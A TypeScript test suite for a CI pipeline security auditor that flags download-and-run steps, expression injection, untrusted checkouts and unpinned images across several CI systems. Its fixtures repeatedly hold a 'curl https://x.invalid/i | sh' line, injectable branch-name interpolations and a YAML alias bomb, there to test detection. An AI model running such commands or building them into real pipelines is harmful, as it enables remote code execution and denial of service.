import { assert as holds, constantFrom, property, string } from 'fast-check';
import { describe, expect, it } from 'vitest';
import { auditRepository } from '../../src/audit/audit.ts';
import { tokensOf } from '../../src/audit/jenkins/tokens.ts';
import { repositoryOf } from '../../src/audit/source/repository.ts';
import { SourceText } from '../../src/audit/source/text.ts';
import { marked, marksOf } from '../../src/audit/systems/marked.ts';
import { get, scalarOf } from '../../src/audit/yaml/node.ts';
import { readYaml } from '../../src/audit/yaml/read.ts';

type Files = Readonly<Record<string, string>>;

const report = (files: Files) => auditRepository(repositoryOf(files));
/** Findings of a rule as `path:line severity`. */
const found = (rule: string, files: Files): string[] =>
  report(files)
    .findings.filter((finding) => finding.rule === rule)
    .map(({ path, line, severity }) => `${path}:${line} ${severity}`);
const told = (files: Files): string[] => report(files).metrics.unread.map(({ path, reason }) => `${path}: ${reason}`);
/** An alias bomb: `a8` is ten million lines. */
const BOMB = [
  'a0: &a0 [echo]',
  ...Array.from(
    { length: 8 },
    (_, n) => `a${n + 1}: &a${n + 1} [${Array.from({ length: 10 }, () => `*a${n}`).join(', ')}]`,
  ),
].join('\n');

describe('GitLab CI', () => {
  const base = { 'ci/base.yml': '.base:\n  script:\n    - echo\n    - curl https://x.invalid/i | sh\n' };

  it('names the line of an included file, for a script that is extended or referred to', () => {
    for (const job of [
      'extends: .base',
      'script: [!reference [.base, script]]',
      'before_script: [!reference [.base, script]]\n  script: make',
    ])
      expect(
        found('download-and-run', { ...base, '.gitlab-ci.yml': `include: /ci/*.yml\nscore:\n  ${job}\n` }),
      ).toEqual(['ci/base.yml:4 medium']);
  });

  it('takes anchors, merges and defaults, and a hidden job that nothing extends for no job', () => {
    const script = '.t: &t\n  script: curl https://x.invalid/i | sh\n';
    expect(found('download-and-run', { '.gitlab-ci.yml': script })).toEqual([]);
    expect(found('download-and-run', { '.gitlab-ci.yml': `${script}score:\n  <<: *t\n` })).toEqual([
      '.gitlab-ci.yml:2 medium',
    ]);
    const inherited = 'default:\n  image: python\nscore:\n  script: make\n';
    expect(found('unpinned-image', { '.gitlab-ci.yml': inherited })).toEqual(['.gitlab-ci.yml:2 medium']);
    expect(found('unpinned-image', { '.gitlab-ci.yml': `${inherited}  inherit: { default: false }\n` })).toEqual([]);
  });

  it.each([
    ['rules that ask for merge requests', 'rules:\n    - if: $CI_PIPELINE_SOURCE == "merge_request_event"', true],
    ['only merge requests', 'only: [merge_requests]', true],
    ['nothing said', 'stage: test', false],
    [
      'a rule that keeps them out',
      'rules:\n    - if: $CI_MERGE_REQUEST_IID\n      when: never\n    - when: on_success',
      false,
    ],
  ])('knows who starts a job: %s', (_, words, changes) => {
    const [stage] = report({ '.gitlab-ci.yml': `score:\n  script: make score\n  ${words}\n` }).stages;
    expect(stage?.starts.map(({ event, exposure }) => [event, exposure])).toEqual([
      ['push', 'trusted'],
      ...(changes ? [['merge_request_event', 'confined']] : []),
    ]);
  });

  it('follows child pipelines, and names every part that lies elsewhere', () => {
    const files = {
      '.gitlab-ci.yml':
        'include:\n  - remote: https://x.invalid/a.yml\n  - local: gone.yml\nscore:\n  trigger:\n    include: ci/child.yml\n',
      'ci/child.yml': 'inner:\n  script: curl https://x.invalid/i | sh\n',
    };
    expect(found('download-and-run', files)).toEqual(['ci/child.yml:2 medium']);
    expect(told(files)).toEqual([
      '.gitlab-ci.yml: the include https://x.invalid/a.yml lies elsewhere',
      '.gitlab-ci.yml: the include gone.yml is not there',
    ]);
  });

  it('says what it cuts off', () => {
    const many = Array.from({ length: 1_001 }, (_, n) => `    V${n}: a\n`).join('');
    const bases = Array.from({ length: 51 }, (_, n) => `b${n}`);
    const files = {
      '.gitlab-ci.yml': `score:\n  extends: [${bases.join(', ')}]\n  variables:\n${many}  script: x\n${bases.map((name) => `.${name}: {}\n`).join('')}`,
    };
    expect(report(files).metrics.unread).toEqual(
      expect.arrayContaining([
        { path: '.gitlab-ci.yml', line: 2, reason: 'more than 50 jobs that one extends', pipeline: true },
        { path: '.gitlab-ci.yml', line: 4, reason: 'more than 1000 entries of variables', pipeline: true },
      ]),
    );
  });

  it('ends on cycles and bombs, and says what it left out', () => {
    const files = {
      '.gitlab-ci.yml': `include: [ci/a.yml]\n${BOMB}\nscore:\n  extends: [.x, .gone]\n  script: *a8\n.x:\n  extends: .y\n.y:\n  extends: .x\n`,
      'ci/a.yml': 'include: [/.gitlab-ci.yml]\nother:\n  script: curl https://x.invalid/i | sh\n',
    };
    const { findings, metrics } = report(files);
    expect(metrics.unread.map(({ reason }) => reason)).toEqual(
      expect.arrayContaining([
        '.y extends itself',
        'score extends .gone, which is not there',
        'scripts that are too long together',
      ]),
    );
    expect(findings.find(({ rule }) => rule === 'download-and-run')).toMatchObject({ path: 'ci/a.yml', line: 3 });
  });
});

describe('Azure Pipelines', () => {
  const job = (more: string, script = 'npm install'): Files => ({
    'azure-pipelines.yml': `trigger: [main]\njobs:\n  - job: score\n    ${more}\n    steps:\n      - script: ${script}\n`,
  });

  it('runs the change of a pull request unless the file says otherwise', () => {
    const run = (files: Files): string[] => found('untrusted-checkout-run', files);
    expect(run(job('pool: { vmImage: ubuntu-24.04 }'))).toEqual(['azure-pipelines.yml:6 medium']);
    expect(run(job("condition: ne(variables['Build.Reason'], 'PullRequest')"))).toEqual([]);
    expect(run(job("condition: and(succeeded(), eq(variables['Build.SourceBranch'], 'refs/heads/main'))"))).toEqual([]);
    expect(run({ 'azure-pipelines.yml': `pr: none\n${job('timeoutInMinutes: 5')['azure-pipelines.yml']}` })).toEqual(
      [],
    );
    const late = 'steps:\n  - script: npm install\n  - checkout: self\n';
    expect(run({ 'azure-pipelines.yml': late })).toEqual([]);
  });

  it('looks behind template expressions, tasks and templates', () => {
    const steps =
      "steps:\n  - ${{ if eq(variables['Build.Reason'], 'Manual') }}:\n    - task: Bash@3\n      inputs:\n        script: |\n          echo\n          curl https://x.invalid/i | sh\n  - template: ci/more.yml\n  - template: far.yml@other\n";
    const files = { 'azure-pipelines.yml': steps, 'ci/more.yml': 'steps:\n  - bash: npm ci\n' };
    expect(found('download-and-run', files)).toEqual(['azure-pipelines.yml:7 medium']);
    expect(found('untrusted-checkout-run', files)).toContain('ci/more.yml:2 medium');
    expect(told(files)).toEqual(['azure-pipelines.yml: the template far.yml@other lies elsewhere']);
  });

  it('leaves to the shell what is the shell’s, and takes branches of pull requests for what they are there', () => {
    const injected = (script: string): string[] => found('expression-injection', job('displayName: x', script));
    expect(injected('echo $(pwd) $(date) $(Build.BuildId)')).toEqual([]);
    expect(injected('echo $(System.PullRequest.SourceBranch)')).toEqual(['azure-pipelines.yml:6 high']);
    expect(injected('echo $(Build.SourceBranchName)')).toEqual(['azure-pipelines.yml:6 medium']);
  });

  it('ends on templates that call one another, and on bombs', () => {
    const files = {
      'azure-pipelines.yml': `${BOMB}\nsteps:\n  - template: a.yml\n  - *a8\n`,
      'a.yml': 'steps:\n  - template: b.yml\n',
      'b.yml': 'steps:\n  - template: a.yml\n  - bash: curl https://x.invalid/i | sh\n',
    };
    expect(found('download-and-run', files)).toEqual(['b.yml:3 medium']);
  });
});

describe('Tekton', () => {
  const task =
    'apiVersion: tekton.dev/v1\nkind: Task\nmetadata: { name: score }\nspec:\n  params: [{ name: words }]\n  steps:\n    - image: x\n      script: echo $(params.words)\n';
  const run = (value: string): string =>
    `apiVersion: tekton.dev/v1\nkind: PipelineRun\nmetadata:\n  annotations: { pipelinesascode.tekton.dev/on-event: '[pull_request]' }\nspec:\n  pipelineSpec:\n    tasks:\n      - name: a\n        taskRef: { name: score }\n        params: [{ name: words, value: '${value}' }]\n`;

  it('follows parameters into the task of another file', () => {
    const files = (value: string): Files => ({ '.tekton/run.yaml': run(value), '.tekton/task.yaml': task });
    expect(found('expression-injection', files('{{ body.pull_request.title }}'))).toEqual(['.tekton/task.yaml:8 high']);
    expect(found('expression-injection', files('fixed'))).toEqual([]);
  });

  it('says what it cuts off', () => {
    const words = Array.from({ length: 501 }, (_, n) => `{ name: p${n}, value: a }`).join(', ');
    const files = {
      '.tekton/run.yaml': run('x').replace("params: [{ name: words, value: 'x' }]", `params: [${words}]`),
      '.tekton/task.yaml': task,
    };
    expect(told(files)).toContain('.tekton/run.yaml: more than 500 parameters');
    const long = { '.tekton/run.yaml': run(`$(params.a)${'x'.repeat(5_000)}`), '.tekton/task.yaml': task };
    expect(told(long)).toEqual(['.tekton/run.yaml: a parameter of more than 4096 characters']);
  });

  it('names a task that is not there', () => {
    expect(told({ '.tekton/run.yaml': run('x') })).toEqual(['.tekton/run.yaml: the task score lies elsewhere']);
  });
});

describe('CircleCI', () => {
  it('follows commands and parameters, and ends on commands that call one another', () => {
    const config =
      'version: 2.1\ncommands:\n  a:\n    steps: [b]\n  b:\n    steps:\n      - run: echo << pipeline.git.branch >>\n      - a\njobs:\n  score:\n    steps: [checkout, a]\n';
    const files = { '.circleci/config.yml': config };
    expect(found('expression-injection', files)).toEqual(['.circleci/config.yml:7 medium']);
    expect(told(files)).toEqual(['.circleci/config.yml: steps of score that are nested too deeply or too many']);
  });

  it('knows that filters keep forks out', () => {
    const config = (filter: string): Files => ({
      '.circleci/config.yml': `version: 2.1\njobs:\n  score:\n    steps:\n      - checkout\n      - run: make\nworkflows:\n  a:\n    jobs:\n      - score: { filters: { branches: { ${filter} } } }\n`,
    });
    expect(found('untrusted-checkout-run', config('only: main'))).toEqual([]);
    expect(found('untrusted-checkout-run', config('ignore: docs'))).toEqual(['.circleci/config.yml:6 medium']);
  });
});

describe('Jenkinsfiles', () => {
  const pipeline = (steps: string, more = ''): Files => ({
    Jenkinsfile: `pipeline {\n  agent any\n  stages {\n    stage('a') {\n${more}      steps {\n${steps}\n      }\n    }\n  }\n}\n`,
  });

  it.each([
    ['sh "echo ${env.CHANGE_TITLE}"', ['Jenkinsfile:6 high']],
    ['sh(returnStdout: true, script: "echo $CHANGE_TITLE")', ['Jenkinsfile:6 high']],
    ['script { def t = env.CHANGE_BRANCH\nsh "git switch ${t}" }', ['Jenkinsfile:7 high']],
    ['sh "docker build -t a:${BRANCH_NAME} ."', ['Jenkinsfile:6 medium']],
    ["sh 'echo ${CHANGE_TITLE}'", []],
    ['sh "echo \\${CHANGE_TITLE} ${env.BUILD_NUMBER}"', []],
    ['// sh "${env.CHANGE_TITLE}"\n/* sh "${env.CHANGE_TITLE}" */', []],
  ])('%s', (steps, expected) => expect(found('expression-injection', pipeline(steps))).toEqual(expected));

  it('know stages that no change reaches', () => {
    const run = (more: string): string[] => found('untrusted-checkout-run', pipeline("sh 'make'", more));
    expect(run('')).toEqual(['Jenkinsfile:6 high']);
    expect(run("when { branch 'main' }\n")).toEqual([]);
    expect(run('when { not { changeRequest() } }\n')).toEqual([]);
  });

  it('are read to their end whatever they say, each character where it stands', () => {
    const alphabet = string({ unit: constantFrom(...'\'"$\\{}()/* \nab.='.split('')), maxLength: 300 });
    holds(
      property(alphabet, (text) => {
        const source = new SourceText('Jenkinsfile', text);
        for (const token of tokensOf(source).tokens)
          if (token.kind === 'text')
            for (let at = 0; at < token.text.length; at++)
              expect(token.scalar.placeOf(at).line).toBeLessThanOrEqual(source.lineCount);
        return auditRepository(repositoryOf({ Jenkinsfile: text })).version === 1;
      }),
    );
    expect(told({ Jenkinsfile: 'sh """x' })).toEqual(['Jenkinsfile: a Jenkinsfile that can not be read to its end']);
  });
});

describe('compose files', () => {
  it('are read with anchors, and not by the look of a line', () => {
    const file =
      'x: &x { privileged: true }\nservices:\n  a:\n    <<: *x\n    image: a\n  # network_mode: host\n  b:\n    network_mode: "host"\n    image: $IMAGE\n';
    expect(found('evaluation-isolation', { 'compose.yaml': file })).toEqual([
      'compose.yaml:1 medium',
      'compose.yaml:8 low',
    ]);
    expect(found('unpinned-image', { 'compose.yaml': file })).toEqual(['compose.yaml:5 low']);
    expect(told({ 'compose.yaml': 'a:\n\t- b\n' })[0]).toMatch(/^compose\.yaml: not valid YAML/u);
  });
});

describe('what a service puts into a text', () => {
  it('is a variable as long as what is written, so that every character keeps its place', () => {
    const [root] = readYaml(new SourceText('a', 'run: |\n  echo\n  say << one.two >> and << x >>\n')).documents;
    const scalar = scalarOf(get(root, 'run'));
    if (scalar === undefined) throw new TypeError('no scalar');
    const made = marked(
      scalar,
      marksOf(/<<\s*([\w.]+)\s*>>/gu, (name) => ['circleci', name]),
    );
    expect(made.text).toBe('echo\nsay ${_one_two__} and ${_x__}\n');
    expect(made.text).toHaveLength(scalar.text.length);
    expect(made.placeOf(made.embedded?.[0]?.start ?? -1)).toEqual({ line: 3, column: 7 });
  });
});
